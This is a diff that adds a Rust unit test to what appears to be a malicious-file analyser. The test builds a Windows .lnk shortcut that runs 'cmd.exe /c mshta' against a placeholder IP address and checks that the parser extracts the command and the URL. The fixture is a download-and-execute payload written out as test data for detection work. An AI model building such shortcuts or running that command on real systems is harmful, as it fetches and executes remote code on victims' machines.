@@ -55,3 +55,25 @@ fn read(bytes: &[u8]) -> Option<[String; 5]> {
     }
     Some(strings)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::formats::testing::{nasty, tree};
+
+    #[test]
+    fn path_and_arguments() {
+        let mut whole = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
+        whole.extend((STRINGS[1] | STRINGS[3] | IS_UNICODE).to_le_bytes());
+        whole.resize(76, 0);
+        for string in ["..\\cmd.exe", "/c mshta http://198.51.100.7/a"] {
+            whole.extend(u16::try_from(string.len()).unwrap().to_le_bytes());
+            whole.extend(string.bytes().flat_map(|b| [b, 0]));
+        }
+        let found = tree(&whole, "a.lnk");
+        let object = &found.objects[0];
+        assert_eq!(object.properties[0].detail, "..\\cmd.exe /c mshta http://198.51.100.7/a");
+        assert_eq!(object.urls[0].url, "http://198.51.100.7/a");
+        nasty(&whole, "a.lnk");
+    }
+}
